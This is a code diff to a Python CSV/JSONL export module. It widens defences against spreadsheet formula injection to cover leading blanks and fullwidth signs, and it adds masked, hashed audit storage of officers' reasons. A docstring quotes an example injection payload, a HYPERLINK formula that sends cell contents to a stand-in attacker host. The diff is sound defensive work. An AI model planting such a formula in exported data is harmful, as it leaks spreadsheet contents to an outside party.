@@ -15,7 +15,10 @@ Two formats:
   empty cell. A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
   return is written with a ``'`` in front (:func:`neutralised`): a spreadsheet would
   otherwise run it as a formula (OWASP, "CSV Injection",
-  https://owasp.org/www-community/attacks/CSV_Injection). Content, errors and user ids
+  https://owasp.org/www-community/attacks/CSV_Injection). So is a cell whose first
+  character that is not blank (space, tab, CR, LF, U+FEFF, U+00A0, U+3000) is one of
+  those or its fullwidth form (``＝＋－＠``): spreadsheets strip leading blanks and a
+  byte-order mark, and some read fullwidth signs as the ASCII ones. Content, errors and user ids
   come from senders and providers, not from the officer, so any of them could be
   ``=HYPERLINK("https://evil.example/?"&A1)``.
 - **JSONL**: one JSON object per line, LF-terminated, the shape of one item of the API's
@@ -29,6 +32,7 @@ from __future__ import annotations
 
 import csv
 import enum
+import hashlib
 import io
 import re
 from collections.abc import Iterable, Sequence
@@ -40,11 +44,17 @@ import msgspec
 from policies.channels import Channel, DeliveryStatus
 from policies.disclosure import disclose, reveal
 from policies.instants import rfc3339
+from policies.masking import mask_content
 from policies.records import LOG_FIELDS, SendRecord, shown_fields
 
 BYTE_ORDER_MARK = "\ufeff"
 FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
 """First characters that make a spreadsheet read a cell as a formula (OWASP)."""
+FULLWIDTH_TRIGGERS: tuple[str, ...] = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
+"""``＝＋－＠``: read as ``=+-@`` by spreadsheets that normalise fullwidth forms."""
+LEADING_BLANKS = " \t\r\n\ufeff\u00a0\u3000"
+"""Skipped before looking for a trigger: spreadsheets trim them (and a byte-order mark)."""
+_TRIGGER_CHARACTERS = frozenset(("=", "+", "-", "@", *FULLWIDTH_TRIGGERS))
 NEUTRALISER = "'"
 """Put in front of a cell that begins with a trigger: spreadsheets show it as text."""
 
@@ -93,10 +103,30 @@ class ExportFilters:
 
 def neutralised(cell: str) -> str:
     """``cell`` as a spreadsheet may open it: with :data:`NEUTRALISER` in front when it
-    begins with one of :data:`FORMULA_TRIGGERS` (OWASP CSV injection), else unchanged."""
+    begins with one of :data:`FORMULA_TRIGGERS` (OWASP CSV injection), or when its first
+    character outside :data:`LEADING_BLANKS` is ``=+-@`` or one of
+    :data:`FULLWIDTH_TRIGGERS`; else unchanged."""
     if cell.startswith(FORMULA_TRIGGERS):
         return NEUTRALISER + cell
+    first = cell.lstrip(LEADING_BLANKS)[:1]
+    if first in _TRIGGER_CHARACTERS:
+        return NEUTRALISER + cell
     return cell
+
+
+def reason_evidence(reason: str | None) -> dict[str, object] | None:
+    """What the audit trail keeps of an officer's free-text reason (the trail cannot be
+    erased, the reason may name a person): the text through the one masking function for
+    free text (:func:`policies.masking.mask_content`), the SHA-256 of its UTF-8 bytes and
+    its length in characters, so an auditor reads the gist and the officer can prove the
+    exact text. Never the text itself."""
+    if reason is None:
+        return None
+    return {
+        "masked": mask_content(reason),
+        "sha256": hashlib.sha256(reason.encode("utf-8", "surrogatepass")).hexdigest(),
+        "chars": len(reason),
+    }
 
 
 def csv_lines(rows: Iterable[Sequence[str | None]]) -> str:
